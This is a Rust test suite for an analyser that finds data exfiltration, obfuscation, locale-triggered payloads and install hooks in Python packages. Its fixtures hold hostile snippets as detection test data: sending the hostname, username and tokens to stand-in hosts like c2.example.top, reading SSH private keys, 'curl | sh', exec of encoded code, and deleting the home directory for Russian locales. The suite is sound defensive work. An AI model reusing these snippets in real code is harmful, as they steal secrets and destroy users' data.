//! The front end on small programs: each source, sink and decoder, positive and negative.

use crate::{analyze, Options};
use telltale_facts::{DataKind, Effect, FileFacts, Kinds, SinkKind};

fn facts(src: &str) -> FileFacts {
    analyze("pkg/mod.py", src, &Options::default())
}

fn source_kinds(f: &FileFacts) -> Vec<DataKind> {
    let mut k: Vec<DataKind> = f.sources.iter().map(|s| s.kind).collect();
    k.sort();
    k.dedup();
    k
}

/// The one flow of a program, and what it carries.
fn one_flow(src: &str) -> telltale_facts::FlowFact {
    let f = facts(src);
    assert_eq!(f.flows.len(), 1, "{src}\nflows: {:#?}", f.flows);
    f.flows.into_iter().next().unwrap()
}

fn no_flow(src: &str) {
    let f = facts(src);
    assert!(
        f.flows.is_empty(),
        "{src}\nunexpected flows: {:#?}",
        f.flows
    );
}

fn decoded(src: &str) -> Vec<String> {
    facts(src)
        .obfuscations
        .into_iter()
        .map(|o| o.decoded)
        .collect()
}

fn hidden_hosts(f: &FileFacts) -> Vec<&str> {
    f.endpoints
        .iter()
        .filter(|e| !e.encodings.is_empty())
        .map(|e| e.host.as_str())
        .collect()
}

// ------------------------------------------------------------------------------ sources

#[test]
fn identity_sources_by_api() {
    let cases = [
        ("import socket\nsocket.gethostname()", DataKind::Hostname),
        ("import socket\nsocket.getfqdn()", DataKind::Hostname),
        ("import platform\nplatform.node()", DataKind::Hostname),
        ("import os\nos.uname().nodename", DataKind::Hostname),
        ("import os\nos.uname()[1]", DataKind::Hostname),
        ("import getpass\ngetpass.getuser()", DataKind::Username),
        ("import os\nos.getlogin()", DataKind::Username),
        (
            "import os, pwd\npwd.getpwuid(os.getuid()).pw_name",
            DataKind::Username,
        ),
        ("import os\nos.environ['USER']", DataKind::Username),
        ("import os\nos.getenv('USERNAME')", DataKind::Username),
        (
            "import os\nos.environ.get('GITHUB_TOKEN')",
            DataKind::SecretEnv,
        ),
        ("import os\nos.environ", DataKind::WholeEnvironment),
        ("import os\ndict(os.environ)", DataKind::WholeEnvironment),
        ("import os\nos.path.expanduser('~')", DataKind::HomeDir),
        ("from pathlib import Path\nPath.home()", DataKind::HomeDir),
        ("import os\nos.getcwd()", DataKind::WorkingDirectory),
        ("import uuid\nuuid.getnode()", DataKind::NetworkInterfaces),
        ("import time\ntime.tzname[0]", DataKind::TimeZone),
        (
            "import datetime\ndatetime.datetime.now().astimezone().tzinfo",
            DataKind::TimeZone,
        ),
        (
            "from datetime import datetime\ndatetime.now().astimezone().tzname()",
            DataKind::TimeZone,
        ),
        (
            "import locale\nlocale.getdefaultlocale()[0]",
            DataKind::Locale,
        ),
        ("import locale\nlocale.getlocale()", DataKind::Locale),
        ("import platform\nplatform.platform()", DataKind::OsRelease),
        ("import os\nos.uname().release", DataKind::OsRelease),
        ("import os\nos.uname()[2]", DataKind::OsRelease),
        // Aliases and hidden imports.
        (
            "from socket import gethostname as g\ng()",
            DataKind::Hostname,
        ),
        ("import platform as p\np.node()", DataKind::Hostname),
        ("__import__('socket').gethostname()", DataKind::Hostname),
        (
            "import getpass\nf = getpass.getuser\nf()",
            DataKind::Username,
        ),
    ];
    for (src, kind) in cases {
        assert_eq!(source_kinds(&facts(src)), vec![kind], "{src}");
    }
}

#[test]
fn os_fields_and_other_variables_are_no_identity() {
    for src in [
        "import os\nos.uname().sysname",
        "import os\nos.uname()[0]",
        "import platform\nplatform.system()",
        "import platform\nplatform.uname().machine",
        "import os\nos.environ.get('PATH')",
        "import os\nos.environ['LD_LIBRARY_PATH']",
        "import locale\nlocale.getdefaultlocale()[1]",
        "import os\nos.path.expanduser(some_path)",
    ] {
        assert!(
            facts(src).sources.is_empty(),
            "{src}: {:?}",
            facts(src).sources
        );
    }
}

#[test]
fn sensitive_files_by_path() {
    let cases = [
        ("open('/etc/resolv.conf').read()", DataKind::NetworkInterfaces),
        ("open('/etc/hosts').read()", DataKind::NetworkInterfaces),
        ("import os\nopen(os.path.expanduser('~/.ssh/id_rsa')).read()", DataKind::SshKey),
        ("import os\nopen(os.path.join(os.path.expanduser('~'), '.ssh', 'id_rsa')).read()", DataKind::SshKey),
        ("from pathlib import Path\n(Path.home() / '.ssh' / 'id_rsa').read_text()", DataKind::SshKey),
        ("open('/etc/machine-id').read()", DataKind::MachineId),
        ("open('/sys/class/net/{}/address'.format(i)).read()", DataKind::NetworkInterfaces),
        // A helper that opens its parameter.
        ("def read(p):\n    with open(p) as f:\n        return f.read()\nread('/etc/resolv.conf')", DataKind::NetworkInterfaces),
    ];
    for (src, kind) in cases {
        assert!(
            source_kinds(&facts(src)).contains(&kind),
            "{src}: {:?}",
            facts(src).sources
        );
    }
    // An ordinary file's content is no identity, even under the home directory.
    let f = facts("import os\nimport requests\nd = open(os.path.join(os.path.expanduser('~'), '.myapp.cfg')).read()\nrequests.post('https://x.example', data=d)");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn lan_ip_is_a_source_not_a_dns_flow() {
    let f = facts("import socket\nh = socket.gethostname()\nip = socket.gethostbyname(h)\n");
    assert!(source_kinds(&f).contains(&DataKind::NetworkInterfaces));
    assert!(f.flows.is_empty());
    let f = facts("import socket\nip = socket.gethostbyname(socket.gethostname())\n");
    assert!(source_kinds(&f).contains(&DataKind::NetworkInterfaces));
    assert!(f.flows.is_empty());
}

// ------------------------------------------------------------------------------ sinks

#[test]
fn requests_with_identity_is_a_flow_with_steps_and_endpoint() {
    let fl = one_flow(
        "import socket, getpass, requests\n\
         h = socket.gethostname()\n\
         payload = {'hostname': h, 'user': getpass.getuser()}\n\
         requests.post('https://c2.example.top/collect', data=payload)\n",
    );
    assert_eq!(fl.sink, SinkKind::Http);
    assert_eq!(fl.sink_api, "requests.post");
    assert!(fl.kinds.contains(DataKind::Hostname) && fl.kinds.contains(DataKind::Username));
    assert_eq!(fl.endpoints, vec!["c2.example.top"]);
    let steps: Vec<&str> = fl.steps.iter().map(|s| s.what.as_str()).collect();
    assert!(steps[0].starts_with("reads "));
    assert!(steps.iter().any(|s| s.starts_with("payload = {")));
    assert!(steps.last().unwrap().starts_with("sent by requests.post"));
}

/// A token in a request's auth position, sent to the service it belongs to or to an address
/// the caller gives, is use (aider's `GITHUB_TOKEN` to api.github.com, an OpenRouter key to
/// openrouter.ai); the same header to a constant foreign host, or the token in a body, is a flow.
#[test]
fn credentials_sent_to_their_service_are_use_not_exfiltration() {
    let uses = |src: &str| {
        let f = facts(src);
        assert!(f.flows.is_empty(), "{src}\nflows: {:#?}", f.flows);
        f.credential_uses
    };
    // A headers dict in a variable, passed to several requests.
    let u = uses(
        "import os, requests\n\
         TOKEN = os.getenv('GITHUB_TOKEN')\n\
         headers = {'Authorization': f'token {TOKEN}', 'Accept': 'application/vnd.github.v3+json'}\n\
         def issues():\n    return requests.get('https://api.github.com/repos/a/b/issues', headers=headers)\n\
         def close(n):\n    requests.patch(f'https://api.github.com/repos/a/b/issues/{n}', headers=headers, json={'state': 'closed'})\n",
    );
    assert_eq!(u.len(), 1, "{u:#?}");
    assert_eq!(u[0].host.as_deref(), Some("api.github.com"));
    assert_eq!(u[0].position, "Authorization header");
    assert!(u[0].kinds.contains(DataKind::SecretEnv));
    assert!(u[0].secret.contains("GITHUB_TOKEN"), "{}", u[0].secret);
    // Through a parameter, the dict written in the call.
    let u = uses(
        "import os, requests\n\
         def tier(api_key):\n    return requests.get('https://openrouter.ai/api/v1/auth/key', headers={'Authorization': f'Bearer {api_key}'}, timeout=5)\n\
         tier(os.environ.get('OPENROUTER_API_KEY'))\n",
    );
    assert_eq!(u.len(), 1);
    assert_eq!(u[0].host.as_deref(), Some("openrouter.ai"));
    // A subscript write, to the URL the caller gives; `auth=` to the service's host.
    let u = uses(
        "import os, requests\n\
         def call(url, body):\n    h = {}\n    h['x-api-key'] = os.environ['ANTHROPIC_API_KEY']\n    return requests.post(url, headers=h, json=body)\n",
    );
    assert_eq!((u.len(), u[0].host.as_deref()), (1, None));
    assert_eq!(u[0].position, "x-api-key header");
    let u = uses(
        "import os, requests\n\
         requests.get('https://gitlab.com/api/v4/user', auth=('me', os.environ['GITLAB_TOKEN']))\n",
    );
    assert_eq!((u.len(), u[0].position.as_str()), (1, "auth option"));
    // The same header to a constant host the token does not belong to is exfiltration.
    let fl = one_flow(
        "import os, requests\n\
         headers = {'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']}\n\
         requests.get('https://stats.example.top/ping', headers=headers)\n",
    );
    assert!(fl.kinds.contains(DataKind::SecretEnv));
    assert_eq!(fl.endpoints, vec!["stats.example.top"]);
    assert!(fl
        .steps
        .iter()
        .any(|s| s.what.starts_with("as the Authorization header")));
    // A token in the body is sent, whoever receives it.
    let fl = one_flow(
        "import os, requests\n\
         requests.post('https://api.github.com/gists', json={'token': os.environ['GITHUB_TOKEN']})\n",
    );
    assert!(fl.kinds.contains(DataKind::SecretEnv));
    // A constant or a non-secret in the auth position is nothing.
    let f = facts("import requests\nrequests.get('https://api.example.com', headers={'Authorization': 'Basic Zm9v'})\n");
    assert!(f.flows.is_empty() && f.credential_uses.is_empty());
}

#[test]
fn ordinary_requests_are_quiet() {
    no_flow("import requests\nrequests.get('https://pypi.org/simple/requests/')");
    no_flow("import requests, os\nurl = os.environ.get('INDEX_URL', 'https://pypi.org')\nrequests.get(url, timeout=10)");
    no_flow("import requests\ndef fetch(url):\n    return requests.get(url).json()\nfetch('https://api.example.com/v1')");
    // HOME used for a path is read, not sent.
    let f = facts("import os, json\ncfg = os.path.join(os.environ.get('HOME'), '.cfg')\nwith open(cfg) as fh:\n    json.load(fh)\n");
    assert_eq!(source_kinds(&f), vec![DataKind::HomeDir]);
    assert!(f.flows.is_empty());
    // The OS in a user agent says nothing about the user.
    no_flow("import platform, requests\nrequests.get('https://x.example', headers={'User-Agent': f'x/1 ({platform.system()})'})");
    no_flow("import platform, requests\nrequests.get('https://x.example', headers={'User-Agent': f'x/1 ({platform.platform()})'})");
    // Next to other identity it is part of the fingerprint.
    let fl = one_flow("import platform, socket, requests\nrequests.post('https://x.example', data=platform.platform() + socket.gethostname())");
    assert!(fl.kinds.contains(DataKind::OsRelease) && fl.kinds.contains(DataKind::Hostname));
}

#[test]
fn http_clients_and_handles() {
    let cases = [
        ("import requests, socket\nrequests.get('http://x.top', params={'h': socket.gethostname()})", "requests.get", "x.top"),
        ("import requests, socket\ns = requests.Session()\ns.post('http://x.top/a', json={'h': socket.gethostname()})", "requests.Session().post", "x.top"),
        (
            "import urllib.request, socket\nreq = urllib.request.Request('http://x.top/a', data=socket.gethostname().encode())\nurllib.request.urlopen(req)",
            "urllib.request.urlopen",
            "x.top",
        ),
        (
            "from urllib import request\nimport getpass\nreq = request.Request('http://x.top/a')\nrequest.urlopen(req, data=getpass.getuser().encode())",
            "urllib.request.urlopen",
            "x.top",
        ),
        (
            "import http.client, socket\nc = http.client.HTTPSConnection('x.top')\nc.request('POST', '/', socket.gethostname())",
            "http.client.HTTPSConnection().request",
            "x.top",
        ),
        (
            "import socket, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('10.1.2.3', 80))\ns.sendall(os.getcwd().encode())",
            "socket.socket().sendall",
            "10.1.2.3",
        ),
    ];
    for (src, api, host) in cases {
        let fl = one_flow(src);
        assert_eq!(fl.sink_api, api, "{src}");
        assert_eq!(fl.endpoints, vec![host.to_string()], "{src}");
    }
}

/// Module code is read in the module's scope even after the file's functions were visited: a
/// function's local or parameter named like a module variable (`def esc(s)` beside
/// `s = socket.socket()`) once made `s.send` unknown, losing the destination and the flow.
#[test]
fn module_names_shadowed_in_functions_keep_their_meaning() {
    for def in [
        "def esc(s):\n    return s + 'x'\n",
        "def esc(v):\n    s = 1\n    return v\n",
    ] {
        let src = format!(
            "import socket\n{def}data = esc(socket.gethostname())\ns = socket.socket()\ns.connect(('c6.x.top', 4444))\ns.send(data.encode())\n"
        );
        let fl = one_flow(&src);
        assert_eq!(fl.sink_api, "socket.socket().send", "{src}");
        assert_eq!(fl.endpoints, vec!["c6.x.top".to_string()], "{src}");
    }
}

#[test]
fn dns_names_built_from_data() {
    let fl = one_flow(
        "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.x.example.top')",
    );
    assert_eq!(fl.sink, SinkKind::Dns);
    assert_eq!(fl.endpoints, vec!["x.example.top"]);
    let fl = one_flow("import socket, base64\nu = base64.b32encode(socket.gethostname().encode()).decode()\nsocket.getaddrinfo(u + '.d.example.top', 80)");
    assert_eq!(fl.sink, SinkKind::Dns);
    no_flow("import socket\nsocket.gethostbyname('pypi.org')");
}

#[test]
fn commands_through_the_shell_front_end() {
    let fl =
        one_flow("import os, socket\nos.system(f'nslookup {socket.gethostname()}.x.example.top')");
    assert_eq!(fl.sink, SinkKind::Dns);
    assert!(fl.sink_api.starts_with("os.system"));
    let fl = one_flow("import subprocess, getpass\nsubprocess.run(['curl', '-d', getpass.getuser(), 'https://x.example.top/c'])");
    assert_eq!(fl.sink, SinkKind::NetworkCommand);
    let fl = one_flow("import subprocess, socket\nd = socket.gethostname()\nsubprocess.Popen(['dig', '+short', d + '.x.example.top'])");
    assert_eq!(fl.sink, SinkKind::Dns);
    // What a command prints is data too.
    let fl = one_flow("import subprocess, requests\nu = subprocess.getoutput('whoami')\nrequests.post('https://x.example.top', data=u)");
    assert!(fl.kinds.contains(DataKind::Username));
    // Ordinary commands are quiet.
    no_flow("import subprocess\nsubprocess.run(['git', 'status'])\nsubprocess.check_call('make install', shell=True)");
}

#[test]
fn code_from_the_network_is_dynamic_code() {
    let f =
        facts("import subprocess\nexec(subprocess.getoutput('curl -s https://x.example.top/p'))");
    assert!(
        f.dynamic_code
            .iter()
            .any(|d| d.from_network && d.api == "exec"),
        "{:#?}",
        f.dynamic_code
    );
    let f =
        facts("import requests\ncode = requests.get('https://x.example.top/p').text\nexec(code)");
    assert!(f.dynamic_code.iter().any(|d| d.from_network));
    let f = facts("import os\nos.system('curl -s https://x.example.top/i | sh')");
    assert!(f.dynamic_code.iter().any(|d| d.from_network));
    let f = facts("exec('x = 1')\neval(expr)");
    assert!(f.dynamic_code.is_empty());
}

#[test]
fn constant_code_run_by_exec_is_its_own_source() {
    // exec(base64.b64decode(...)) of code that sends the host name.
    let inner = "import socket, requests\nrequests.post('https://x.example.top', data=socket.gethostname())\n";
    let b64 = base64_encode(inner.as_bytes());
    let f = facts(&format!("import base64\nexec(base64.b64decode('{b64}'))\n"));
    assert_eq!(f.nested.len(), 1);
    assert_eq!(f.nested[0].facts.file, "pkg/mod.py › exec#1");
    assert_eq!(f.nested[0].facts.flows.len(), 1);
    assert!(f
        .obfuscations
        .iter()
        .any(|o| o.technique.contains("code run by exec")));
}

fn base64_encode(b: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in b.chunks(3) {
        let n = chunk
            .iter()
            .enumerate()
            .fold(0u32, |n, (i, c)| n | (*c as u32) << (16 - 8 * i));
        for i in 0..4 {
            out.push(if i <= chunk.len() {
                A[(n >> (18 - 6 * i) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}

// ------------------------------------------------------------------------------ data flow

#[test]
fn data_flows_through_formatting_containers_and_functions() {
    let sends = |prefix: &str| {
        format!("import socket, requests, json, base64\nfrom urllib.parse import urlencode\n{prefix}\nrequests.post('https://x.example.top', data=out)\n")
    };
    for prefix in [
        "h = socket.gethostname()\nout = f'host={h}'",
        "out = 'h=%s' % socket.gethostname()",
        "out = 'h={}'.format(socket.gethostname())",
        "out = 'h=' + socket.gethostname()",
        "out = json.dumps({'h': socket.gethostname()})",
        "out = urlencode({'h': socket.gethostname()})",
        "out = []\nout.append(socket.gethostname())",
        "out = {}\nout['h'] = socket.gethostname()",
        "out = base64.b64encode(socket.gethostname().encode())",
        "def collect():\n    return {'h': socket.gethostname()}\nout = collect()",
        "def wrap(v):\n    return 'x' + v\nout = wrap(socket.gethostname())",
        "class C:\n    def __init__(self):\n        self.h = socket.gethostname()\n    def get(self):\n        return self.h\nout = C().get()",
        "enc = ''\nraw = socket.gethostname()\nfor i in range(len(raw)):\n    enc += chr(ord(raw[i]) ^ 5)\nout = enc",
        "out = [c for c in socket.gethostname()]",
        "for k, v in {'h': socket.gethostname()}.items():\n    out = v",
    ] {
        let fl = one_flow(&sends(prefix));
        assert!(fl.kinds.contains(DataKind::Hostname), "{prefix}");
    }
}

#[test]
fn comparisons_and_predicates_carry_nothing() {
    no_flow("import socket, requests\nok = socket.gethostname() == 'build'\nrequests.post('https://x.example.top', data=str(ok))");
    no_flow("import socket, requests\nn = len(socket.gethostname())\nrequests.post('https://x.example.top', data=n)");
    no_flow("import socket, requests\nif socket.gethostname().startswith('ci'):\n    requests.post('https://x.example.top', data='ci')");
}

// ------------------------------------------------------------------------------ decoding

#[test]
fn decoders_reveal_hidden_endpoints() {
    let cases = [
        "import base64\nu = base64.b64decode('aHR0cHM6Ly9ldmlsLmV4YW1wbGUudG9wL2M=').decode()",
        "import base64\nu = base64.b32decode('NB2HI4DTHIXS6ZLWNFWC4ZLYMFWXA3DFFZ2G64BPMM======')",
        "import base64\nu = base64.b16decode('68747470733A2F2F6576696C2E6578616D706C652E746F702F63')",
        "u = bytes.fromhex('68747470733a2f2f6576696c2e6578616d706c652e746f702f63').decode()",
        "import codecs\nu = codecs.decode('uggcf://rivy.rknzcyr.gbc/p', 'rot13')",
        "u = ''.join([chr(c) for c in [104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,46,116,111,112,47,99]])",
        "u = ''.join(map(chr, [104,116,116,112,115,58,47,47,101,118,105,108,46,101,120,97,109,112,108,101,46,116,111,112,47,99]))",
        "u = ''.join(chr(c ^ 7) for c in [111,115,115,119,116,61,40,40,98,113,110,107,41,98,127,102,106,119,107,98,41,115,104,119,40,100])",
        "u = 'c/pot.elpmaxe.live//:sptth'[::-1]",
        "u = 'ht' + 'tps' + '://ev' + 'il.exa' + 'mple.top/c'",
        "import base64\ndef d(s):\n    return base64.b64decode(s).decode()\nu = d('aHR0cHM6Ly9ldmlsLmV4YW1wbGUudG9wL2M=')",
        "import zlib, base64\nu = zlib.decompress(base64.b64decode('eJzLKCkpKLbS108ty8zRS61IzC3ISdUryS/QTwYAg3kJqQ=='))",
        "key = [7]\ns = [111,115,115,119,116,61,40,40,98,113,110,107,41,98,127,102,106,119,107,98,41,115,104,119,40,100]\nu = ''\nfor c in s:\n    u += chr(c ^ key[0])",
    ];
    for src in cases {
        let f = facts(src);
        assert_eq!(
            hidden_hosts(&f),
            vec!["evil.example.top"],
            "{src}: {:#?} {:#?}",
            f.endpoints,
            f.obfuscations
        );
        assert!(!f.obfuscations.is_empty(), "{src}");
    }
}

#[test]
fn split_and_encoded_address_names_its_techniques() {
    let f = facts("import base64\nrip = 'M' + 'TIxL' + 'jQyL' + 'jIx' + 'N' + 'y4' + '0NA' + '=='\nip = base64.b64decode(rip)");
    assert_eq!(hidden_hosts(&f), vec!["121.42.217.44"]);
    assert!(
        f.obfuscations
            .iter()
            .any(|o| o.technique == "base64 → split"),
        "{:#?}",
        f.obfuscations
    );
}

#[test]
fn ordinary_decoding_is_quiet() {
    assert!(decoded("import base64\nbase64.b64decode('aGVsbG8gd29ybGQ=')").is_empty());
    assert!(decoded("x = ''.join(chr(i) for i in range(256))").is_empty());
    assert!(decoded("x = '|'.join(reversed(['a', 'b', 'c']))").is_empty());
    assert!(decoded("x = 'https://' + host + '/api'").is_empty());
    assert!(decoded("x = 'https://example.com/' + 'api/' + 'v1'").is_empty());
}

// ------------------------------------------------------------------------------ region guards

#[test]
fn region_guards_name_countries_and_effects() {
    let f = facts("import locale, shutil, os\nif locale.getdefaultlocale()[0] == 'ru_RU':\n    shutil.rmtree(os.path.expanduser('~'))\n");
    assert_eq!(f.region_guards.len(), 1);
    assert_eq!(f.region_guards[0].countries, vec!["RU"]);
    assert_eq!(f.region_guards[0].effects, vec![Effect::Destructive]);
    let f = facts(
        "import requests, os\nr = requests.get('https://ipapi.co/json').json()\n\
         def main():\n    if r['country'] not in ('RU', 'BY'):\n        return\n    os.system('rm -rf /tmp/x')\n",
    );
    assert_eq!(f.region_guards.len(), 1);
    assert_eq!(f.region_guards[0].countries, vec!["BY", "RU"]);
    assert_eq!(f.region_guards[0].effects, vec![Effect::Exec]);
    let f = facts("import time\nif time.tzname[0] in ('MSK',) or time.tzname[0] == 'Europe/Moscow':\n    print('hi')\n");
    assert_eq!(f.region_guards.len(), 1);
    assert_eq!(f.region_guards[0].effects, vec![Effect::Message]);
    // Comparing the OS or an ordinary setting is no region check.
    assert!(
        facts("import platform\nif platform.system() == 'Windows':\n    print('x')\n")
            .region_guards
            .is_empty()
    );
}

#[test]
fn a_predicate_function_of_the_file_is_a_region_test() {
    // xinference's shape: the locale check behind a function, its result inside `try`.
    let src = [
        "import locale, subprocess",
        "def is_zh():",
        "    try:",
        "        lang, _ = locale.getdefaultlocale()",
        "        return lang == 'zh_CN'",
        "    except Exception:",
        "        return False",
        "def setup_mirror():",
        "    if is_zh():",
        "        subprocess.run(['pip', 'config', 'set', 'global.index-url', 'https://mirrors.example.cn/simple'])",
    ]
    .join("\n");
    let f = facts(&src);
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    assert_eq!(f.region_guards[0].countries, vec!["CN"]);
    // A function that compares something else stays quiet.
    let src = [
        "import subprocess",
        "def confirm():",
        "    return input('go on? ') == 'no'",
        "if confirm():",
        "    subprocess.run(['rm', '-rf', 'build'])",
    ]
    .join("\n");
    assert!(facts(&src).region_guards.is_empty());
}

#[test]
fn a_model_hub_chosen_by_locale_is_an_endpoint_choice() {
    // xinference 4.1: ModelScope (China) for a zh_CN locale, Hugging Face elsewhere.
    let src = [
        "import locale, requests",
        "def fetch(name):",
        "    if locale.getdefaultlocale()[0] == 'zh_CN':",
        "        return requests.get('https://www.modelscope.cn/api/v1/models/' + name)",
        "    else:",
        "        return requests.get('https://huggingface.co/api/models/' + name)",
    ]
    .join("\n");
    let f = facts(&src);
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    assert_eq!(f.region_guards[0].countries, vec!["CN"]);
    assert_eq!(f.region_guards[0].effects, vec![Effect::Endpoint]);
    assert!(
        f.region_guards[0]
            .effect_apis
            .iter()
            .any(|a| a == "www.modelscope.cn"),
        "{:?}",
        f.region_guards[0].effect_apis
    );
    // A request only in the region stays a network effect.
    let src = [
        "import locale, requests",
        "if locale.getdefaultlocale()[0] == 'zh_CN':",
        "    requests.post('https://t.example.com/c', data={'x': 1})",
    ]
    .join("\n");
    let f = facts(&src);
    assert!(
        f.region_guards[0].effects.contains(&Effect::Network),
        "{:#?}",
        f.region_guards
    );
}

// ------------------------------------------------------------------------------ entry points

#[test]
fn cmdclass_install_overrides_are_install_scripts() {
    let f = facts(
        "from setuptools import setup\nfrom setuptools.command.install import install\n\
         class PostInstall(install):\n    def run(self):\n        install.run(self)\n\
         setup(name='x', cmdclass={'install': PostInstall, 'test': Other})\n",
    );
    assert_eq!(f.install_scripts.len(), 1);
    assert_eq!(f.install_scripts[0].hook, "install");
    assert_eq!(
        f.install_scripts[0].command,
        "setup.py cmdclass: PostInstall.run"
    );
    assert!(facts("from setuptools import setup\nsetup(name='x')\n")
        .install_scripts
        .is_empty());
}

#[test]
fn develop_and_egg_info_overrides_are_install_scripts_too() {
    // `pip install -e .` runs `develop`; every sdist install runs `egg_info` to read metadata.
    let f = facts(
        "from setuptools import setup\nfrom setuptools.command.develop import develop\n\
         from setuptools.command.egg_info import egg_info\n\
         class Dev(develop):\n    def run(self):\n        develop.run(self)\n\
         class Info(egg_info):\n    def run(self):\n        egg_info.run(self)\n\
         commands = {'develop': Dev, 'egg_info': Info, 'clean': Other}\n\
         setup(name='x', cmdclass=commands)\n",
    );
    let mut hooks: Vec<&str> = f.install_scripts.iter().map(|s| s.hook.as_str()).collect();
    hooks.sort_unstable();
    assert_eq!(hooks, ["develop", "egg_info"], "{:#?}", f.install_scripts);
}

#[test]
fn setup_entry_points_name_console_scripts() {
    let f = facts(
        "from setuptools import setup\nscripts = ['mytool = mypkg.cli:main', 'other=mypkg.o:run [x]']\n\
         setup(name='x', entry_points={'console_scripts': scripts, 'gui_scripts': 'viewer = mypkg.gui:start', 'pytest11': ['p = m']})\n",
    );
    assert_eq!(
        f.activation,
        vec![
            "console script mytool runs mypkg.cli:main",
            "console script other runs mypkg.o:run",
            "GUI script viewer runs mypkg.gui:start"
        ]
    );
    // `entry_points` of something other than setup(), or without script groups: nothing.
    assert!(
        facts("def setup(**kw): pass\nsetup(entry_points={'console_scripts': ['a = b:c']})\n")
            .activation
            .is_empty()
    );
    assert!(
        facts("from setuptools import setup\nsetup(entry_points={'pytest11': ['p = m']})\n")
            .activation
            .is_empty()
    );
}

#[test]
fn imports_are_requirements_and_sdks() {
    let f =
        facts("import os.path\nfrom . import sibling\nfrom ..pkg import mod\nimport sentry_sdk\n");
    assert_eq!(
        f.requires,
        vec!["..pkg", ".sibling", "os.path", "sentry_sdk"]
    );
    assert_eq!(f.sdk_imports.len(), 1);
}

// ------------------------------------------------------------------------------ hostile input

#[test]
fn bad_input_gives_diagnostics_not_panics() {
    let f = facts("def (:\n  ))))\n");
    assert!(!f.diagnostics.is_empty());
    // Python 2 code: the statements around the errors are still analysed.
    let f = facts("import socket, requests\nprint 'x'\nrequests.post('http://x.example.top', data=socket.gethostname())\nexcept Exception, e:\n  pass\n");
    assert!(f.diagnostics[0].starts_with("parsed with"));
    assert_eq!(f.flows.len(), 1);
    let deep = format!("x = {}1\n", "-".repeat(5_000));
    assert!(facts(&deep)
        .diagnostics
        .iter()
        .any(|d| d.contains("nested deeper")));
    let deep = format!("x = {}1{}\n", "[".repeat(3_000), "]".repeat(3_000));
    assert!(facts(&deep)
        .diagnostics
        .iter()
        .any(|d| d.contains("nested deeper")));
    let long = format!("x = {}\n", vec!["'a'"; 100_000].join(" + "));
    assert!(facts(&long).diagnostics.is_empty());
    let big = analyze("x.py", "x = 1\n", &Options { max_parse_bytes: 3 });
    assert!(big.diagnostics[0].starts_with("not parsed"));
    for s in [
        "",
        "\0\0\0",
        "'''",
        "f'{",
        "lambda: (yield)",
        "x = 'a' * 10**12\nexec(x + x)",
    ] {
        facts(s);
    }
}

/// aider's analytics: a uuid4 kept in `~/.aider/analytics.json` and sent with every event is
/// an installation id; a fresh uuid per request is nothing.
#[test]
fn a_generated_id_kept_on_disk_is_an_installation_id() {
    let src = "import json, uuid, requests\n\
         from pathlib import Path\n\
         class Analytics:\n\
         \x20   user_id = None\n\
         \x20   def __init__(self):\n\
         \x20       self.load()\n\
         \x20       if not self.user_id:\n\
         \x20           self.user_id = str(uuid.uuid4())\n\
         \x20           self.save()\n\
         \x20   def path(self):\n\
         \x20       return Path.home() / '.tool' / 'analytics.json'\n\
         \x20   def load(self):\n\
         \x20       if self.path().exists():\n\
         \x20           self.user_id = json.loads(self.path().read_text()).get('uuid')\n\
         \x20   def save(self):\n\
         \x20       self.path().write_text(json.dumps(dict(uuid=self.user_id)))\n\
         \x20   def event(self, name):\n\
         \x20       requests.post('https://t.example.top/capture', json={'event': name, 'distinct_id': self.user_id})\n";
    let fl = one_flow(src);
    assert_eq!(
        fl.kinds,
        telltale_facts::Kinds::of(DataKind::InstallationId)
    );
    assert!(
        fl.steps
            .iter()
            .any(|s| s.what.starts_with("kept on disk by")),
        "{:#?}",
        fl.steps
    );
    let f = facts(src);
    assert!(f.sources.iter().any(|s| s.kind == DataKind::InstallationId));
    // A request id, and an id written to stdout, are not kept.
    let f = facts(
        "import uuid, sys, requests\n\
         rid = str(uuid.uuid4())\n\
         sys.stdout.write(rid)\n\
         requests.get('https://api.example.com/v1', headers={'X-Request-Id': rid})\n",
    );
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert!(f
        .sources
        .iter()
        .all(|s| !matches!(s.kind, DataKind::InstallationId | DataKind::GeneratedId)));
    // Kept with json.dump into an open file.
    let fl = one_flow(
        "import json, os, uuid, urllib.request\n\
         ID_FILE = os.path.expanduser('~/.cfg/id.json')\n\
         def load():\n\
         \x20   with open(ID_FILE) as fh:\n\
         \x20       return json.load(fh)['id']\n\
         uid = uuid.uuid4().hex\n\
         with open(ID_FILE, 'w') as fh:\n\
         \x20   json.dump({'id': uid}, fh)\n\
         urllib.request.urlopen('https://t.example.top/ping?id=' + uid)\n",
    );
    assert!(fl.kinds.contains(DataKind::InstallationId));
    // A product-analytics client's event carries what it is given to the vendor.
    let fl = one_flow(
        "import uuid\nfrom pathlib import Path\nfrom posthog import Posthog\n\
         ID = Path.home() / '.tool' / 'id'\n\
         uid = ID.read_text() if ID.exists() else str(uuid.uuid4())\n\
         ID.write_text(uid)\n\
         ph = Posthog(project_api_key='phc_x', host='https://us.i.posthog.com')\n\
         ph.capture('launched', distinct_id=uid)\n",
    );
    assert_eq!(fl.sink_api, "posthog.Posthog().capture");
    // An id in a report that is never read back is a request id still.
    no_flow(
        "import json, uuid, requests\n\
         req = {'id': str(uuid.uuid4()), 'prompt': 'hi'}\n\
         with open('/tmp/report.json', 'w') as fh:\n\
         \x20   json.dump(req, fh)\n\
         requests.post('https://api.example.com/v1', json=req)\n",
    );
    assert_eq!(fl.endpoints, vec!["us.i.posthog.com"]);
    assert!(fl.kinds.contains(DataKind::InstallationId));
}

#[test]
fn a_handle_opened_by_with_is_the_object_the_call_made() {
    let fl = one_flow(
        "import socket\n\
         with socket.create_connection(('c2.example.top', 4444)) as s:\n\
         \x20   s.sendall(socket.gethostname().encode())\n",
    );
    assert_eq!(fl.sink, SinkKind::Socket);
    assert_eq!(fl.endpoints, vec!["c2.example.top"]);
}

